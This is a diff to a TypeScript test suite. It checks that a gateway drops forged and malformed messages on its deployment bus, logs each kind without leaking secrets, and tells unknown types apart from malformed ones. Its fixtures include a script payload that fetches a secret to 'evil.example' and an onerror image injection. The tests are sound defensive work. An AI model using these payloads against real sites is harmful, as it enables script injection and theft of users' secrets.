@@ -154,10 +154,12 @@ describe('hostile messages on the deployment bus', () => {
   );
 
   it.skipIf(!ON_POSTGRES)(
-    'forged session frames are dropped with one log line, never sent to the clients',
-    () => {
+    'forged session frames and malformed messages are dropped with one log line each kind, never sent to the clients',
+    async () => {
       const logs: Array<{ message: string; fields: Record<string, unknown> | undefined }> = [];
-      return withIntruder(
+      const linesOf = (what: string) =>
+        logs.filter((line) => line.message.includes(what)).map((line) => line.fields);
+      await withIntruder(
         async (gateway, intruder, clients) => {
           const ann = await TestClient.hello(gateway.wsUrl, { user_id: 'ann' });
           clients.push(ann.client);
@@ -168,7 +170,7 @@ describe('hostile messages on the deployment bus', () => {
             `<script>fetch("https://evil.example/?${secret}")</script>`,
             // A frame's opening, then a payload of the attacker's shape.
             JSON.stringify({
-              type: 'text_delta',
+              type: 'assistant_delta',
               payload: { html: `<img src=x onerror=alert(1)> ${secret}` },
             }),
             // A type the protocol has not, and a turn start without its turn.
@@ -178,6 +180,16 @@ describe('hostile messages on the deployment bus', () => {
           for (const frame of forged) {
             await intruder.publish('session', JSON.stringify({ session_id: annSession, frame }));
           }
+          // Messages that are no message of their topic (the envelope, not the frame in it): not
+          // JSON, or not the shape. Each topic read whether or not a client watches.
+          const envelopes: Array<[string, string]> = [
+            ['session', `not json ${secret}`],
+            ['control', JSON.stringify({ kind: 'cancel', session_id: 7, note: secret })],
+            ['presence', JSON.stringify({ sessions: secret })],
+          ];
+          for (const [topic, text] of envelopes) await intruder.publish(topic, text);
+          // A control message of a kind a newer gateway could send: unknown, not malformed.
+          await intruder.publish('control', JSON.stringify({ kind: 'pause', session_id: annSession }));
           // Same sender, in order: once the well-formed probe is here, the forged ones were handled.
           const probe = { type: 'health_status', payload: { request_id: 'probe', healthy: true } };
           await intruder.publish(
@@ -193,6 +205,16 @@ describe('hostile messages on the deployment bus', () => {
           expect(dropped.map((line) => line.fields)).toEqual([
             { type: 'unknown', bytes: Buffer.byteLength(forged[0]!) },
           ]);
+          // A type the protocol has not is said apart from a malformed frame: during a rolling
+          // deploy a newer gateway sends types an older one has not, and that is no attack.
+          expect(linesOf('unknown frame type')).toEqual([
+            { topic: 'session', type: 'run_this', bytes: Buffer.byteLength(forged[2]!) },
+          ]);
+          // Malformed messages are logged too (they were dropped without a word): the topic, why
+          // and the size, never the text.
+          expect(linesOf('malformed message')).toEqual([
+            { topic: 'session', why: 'not JSON', bytes: Buffer.byteLength(envelopes[0]![1]) },
+          ]);
           expect(JSON.stringify(logs)).not.toContain(secret);
           // The session still works: a forged turn start did not lock it.
           ann.client.send({ type: 'list_sessions', payload: { request_id: 'l' } });
@@ -200,6 +222,26 @@ describe('hostile messages on the deployment bus', () => {
         },
         { log: (_level, message, fields) => logs.push({ message, fields }) },
       );
+      // What the rate limit held back is said when the gateway stops, not lost with it: the
+      // two other malformed messages, the two other malformed frames and the unknown control kind.
+      const summaries = logs.filter((line) => line.message.includes('more since the last line'));
+      expect(summaries.map((line) => [line.message, line.fields]).sort()).toEqual(
+        [
+          [
+            'dropped a malformed message from the deployment bus (2 more since the last line)',
+            { dropped: 2 },
+          ],
+          [
+            'dropped a malformed session frame from the deployment bus (2 more since the last line)',
+            { dropped: 2 },
+          ],
+          [
+            'dropped an unknown frame type from the deployment bus (a newer gateway process sent it?) (1 more since the last line)',
+            { dropped: 1 },
+          ],
+        ].sort(),
+      );
+      expect(JSON.stringify(logs)).not.toContain('sk-forged');
     },
   );
   it.skipIf(!ON_POSTGRES)(
@@ -233,8 +275,13 @@ describe('hostile messages on the deployment bus', () => {
             },
             { name: 'approval', data: { type: 'approval_requested', id: secret } },
             { name: 'agent', data: secret },
+            // A feed event a newer gateway could send: unknown, not malformed.
+            { name: 'agent_moved', data: { id: secret } },
           ];
           for (const event of forged) await intruder.publish('feed', JSON.stringify(event));
+          // No feed message at all: read (and logged) only while the feed has a client here.
+          const envelope = JSON.stringify({ name: 7, data: secret });
+          await intruder.publish('feed', envelope);
           // Same sender, in order: once the well-formed probe is here, the forged ones were handled.
           const probe = { type: 'agent_exited', agent_id: 'probe-agent', status: 'completed' };
           await intruder.publish(
@@ -250,6 +297,14 @@ describe('hostile messages on the deployment bus', () => {
           const dropped = logs.filter((line) => line.message.includes('malformed live feed event'));
           expect(dropped.map((line) => line.fields)).toEqual([
             { name: 'agent', bytes: Buffer.byteLength(JSON.stringify(forged[0])) },
+          ]);
+          const lines = (what: string) =>
+            logs.filter((line) => line.message.includes(what)).map((line) => line.fields);
+          expect(lines('unknown frame type')).toEqual([
+            { topic: 'feed', type: 'agent_moved', bytes: Buffer.byteLength(JSON.stringify(forged[3])) },
+          ]);
+          expect(lines('malformed message')).toEqual([
+            { topic: 'feed', why: 'wrong shape', bytes: Buffer.byteLength(envelope) },
           ]);
           expect(JSON.stringify(logs)).not.toContain(secret);
         },
